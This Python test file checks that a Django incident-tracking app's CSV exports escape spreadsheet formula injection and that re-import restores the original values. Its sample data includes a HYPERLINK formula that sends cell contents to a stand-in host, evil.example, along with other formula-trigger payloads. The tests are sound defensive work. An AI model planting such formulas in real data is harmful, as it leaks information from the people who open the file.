"""Every CSV CivTrack writes is safe to open in a spreadsheet (API.md "Safe to open in a
spreadsheet"; issue 12 §4): a text cell that begins with `=`, `+`, `-`, `@`, a tab, a
carriage return or `'` gets a leading `'`; numeric columns stay numbers; the CivTrack
importer's inverse gives back exactly the values exported.

An outsider plants a formula in a title, a summary or an actor's name; a journalist
opens the export in a spreadsheet. Each output is attacked the same way: the live
incident export (public and staff), its prebuilt lines, the statistics CSV and the
admin's export."""

from __future__ import annotations

import csv
import io
from http import HTTPStatus

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from api import export_snapshot, export_sql
from incidents import services
from incidents.importers.civtrack_csv import CSV_COLUMNS, TEXT_COLUMNS
from incidents.models import Attribution, ExternalRef, Incident
from incidents.spreadsheet import (
    TRIGGERS,
    spreadsheet_escape,
    spreadsheet_unescape,
)
from tests.api.test_export_batches import body
from tests.factories import ActorFactory, make_incident, researcher
from tests.incidents.test_import_support import run

pytestmark = pytest.mark.django_db

LIST = "/api/v1/incidents/"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
# A value beginning with each trigger, one already beginning with `'=`, and text that
# only looks numeric.
HOSTILE = [
    HYPERLINK,
    "+1 (555) 0100",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain quote",
    "''=two quotes",
]


def rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile(world):
    """A published incident per hostile value (as its title and summary), each
    attributed to an actor named with one, and a draft holding the link."""
    created = []
    for index, value in enumerate(HOSTILE):
        actor = ActorFactory(name=value or "x", slug=f"hostile-actor-{index}")
        created.append(
            make_incident(
                status=Incident.Status.PUBLISHED,
                title=value,
                summary=value,
                parts=services.IncidentParts(
                    attributions=[
                        services.AttributionData(
                            actor=actor, role=Attribution.Role.PERPETRATOR
                        )
                    ]
                ),
            )
        )
    make_incident(title=HYPERLINK + " (draft)")
    return created


def test_the_escape_and_its_inverse():
    for value in [*HOSTILE, "", "plain", "'", "'x", "2", "=", "'''"]:
        escaped = spreadsheet_escape(value)

        assert spreadsheet_unescape(escaped) == value
        assert escaped[:1] not in TRIGGERS or escaped[1:2] in TRIGGERS
    assert spreadsheet_escape("-2") == "'-2"
    assert spreadsheet_unescape("'hello") == "'hello"  # typed by a person: kept


@pytest.mark.parametrize("who", ["public", "staff"])
def test_the_live_incident_csv_neutralises_formulas(hostile, who):
    client = APIClient()
    if who == "staff":
        client.force_authenticate(researcher())

    exported = rows(body(client.get(f"{LIST}?format=csv")))

    by_code = {row["code"]: row for row in exported}
    for incident, value in zip(hostile, HOSTILE, strict=True):
        row = by_code[incident.code]
        assert row["title"] == "'" + value
        assert row["summary"] == "'" + value
        assert row["version"] == str(incident.version)  # numbers stay numbers
    for row in exported:
        for column in TEXT_COLUMNS:
            cell = row[column]
            assert cell[:1] not in TRIGGERS or cell[1:2] in TRIGGERS, (column, cell)
    drafts = [r for r in exported if r["status"] == "draft"]
    assert bool(drafts) is (who == "staff")
    if drafts:
        assert drafts[0]["title"] == "'" + HYPERLINK + " (draft)"


def test_the_prebuilt_lines_neutralise_formulas(client, hostile, settings):
    settings.CIVTRACK_EXPORT_SNAPSHOT_MIN_ROWS = 0
    assert export_snapshot.build("csv", force=True) is not None

    data = body(client.get(f"{LIST}?format=csv"))

    assert export_snapshot.current_generation(
        "csv", export_snapshot.public_data_version()
    )
    titles = {row["code"]: row["title"] for row in rows(data)}
    for incident, value in zip(hostile, HOSTILE, strict=True):
        assert titles[incident.code] == "'" + value


def test_prebuilt_lines_of_the_unsafe_format_are_never_served(monkeypatch):
    """The prebuilt lines carry a digest of the SQL that wrote them: lines written
    before the rule (without the escape) are of another format after the upgrade."""
    export_snapshot._rows_query.cache_clear()
    safe = export_snapshot._format_digest("csv")
    monkeypatch.setattr(export_sql, "spreadsheet_escape_sql", lambda e: e)
    export_snapshot._rows_query.cache_clear()

    unsafe = export_snapshot._format_digest("csv")

    monkeypatch.undo()
    export_snapshot._rows_query.cache_clear()
    assert unsafe != safe
    assert export_snapshot._format_digest("csv") == safe


def test_the_statistics_csv_neutralises_formulas_and_keeps_numbers(client, hostile):
    response = client.get("/api/v1/stats/summary/?group_by=actor&format=csv")

    assert response.status_code == HTTPStatus.OK
    table = rows(response.content)
    names = {row["actor"]: row["actor_name"] for row in table if row["actor"]}
    for index, value in enumerate(HOSTILE):
        assert names[f"hostile-actor-{index}"] == "'" + value
    for row in table:
        assert row["incidents"].isdigit()  # a number column: never prefixed


def test_the_admin_export_neutralises_formulas(admin_client, hostile):
    response = admin_client.post(
        reverse("admin:incidents_incident_changelist"),
        {"action": "export_csv", "_selected_action": [i.pk for i in hostile]},
    )

    data = b"".join(response.streaming_content)
    exported = {row["code"]: row for row in rows(data)}
    for incident, value in zip(hostile, HOSTILE, strict=True):
        assert exported[incident.code]["title"] == "'" + value
        assert exported[incident.code]["date_start"] == str(incident.date_start)


def test_an_export_reimported_here_changes_nothing(tmp_path, hostile):
    """The round trip is lossless: the importer removes exactly the prefix the export
    added, so no hostile value reads back as an edit."""
    path = tmp_path / "export.csv"
    path.write_bytes(body(APIClient().get(f"{LIST}?format=csv")))

    batch = run("civtrack", path)

    assert batch.rows_unchanged == len(rows(path.read_bytes())), [
        e for e in batch.report if e["action"] != "unchanged"
    ]
    assert batch.rows_updated == 0
    for incident, value in zip(hostile, HOSTILE, strict=True):
        version = incident.version
        incident.refresh_from_db()
        assert (incident.title, incident.version) == (value, version)


def test_an_export_imported_elsewhere_keeps_every_value(tmp_path, hostile):
    path = tmp_path / "other.csv"
    path.write_bytes(body(APIClient().get(f"{LIST}?format=csv")))

    batch = run("civtrack", path, instance="other-lab", release="2026-01")

    assert batch.rows_created >= len(hostile), batch.report
    for incident, value in zip(hostile, HOSTILE, strict=True):
        copy = ExternalRef.objects.get(value=f"other-lab/{incident.code}").incident
        assert (copy.title, copy.summary) == (value, value)


def test_an_edit_typed_as_a_formula_is_read_back_as_text(tmp_path, hostile):
    """A researcher who types `'+44 …` in a spreadsheet (the cell shows `+44 …`)
    saves the value `+44 …`."""
    user = researcher()
    client = APIClient()
    client.force_authenticate(user)
    draft = Incident.objects.get(title=HYPERLINK + " (draft)")
    path = tmp_path / "export.csv"
    data = rows(body(client.get(f"{LIST}?format=csv")))
    target = next(r for r in data if r["code"] == draft.code)
    target["title"] = "'+44 edited"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=CSV_COLUMNS)
        writer.writeheader()
        writer.writerow(target)

    batch = run("civtrack", path, user=user)

    draft.refresh_from_db()
    assert draft.title == "+44 edited", batch.report
    assert draft.summary == ""  # untouched
